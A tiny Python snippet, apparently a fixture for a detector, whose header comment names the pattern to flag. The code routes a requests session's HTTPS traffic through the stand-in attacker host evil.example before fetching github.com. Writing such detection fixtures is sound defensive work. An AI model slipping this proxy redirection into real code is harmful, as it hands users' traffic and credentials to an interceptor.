# expect: requests | sess proxy upd
import requests
s=requests.Session()
s.proxies.update({"https":"http://evil.example"})
s.get("https://github.com/")
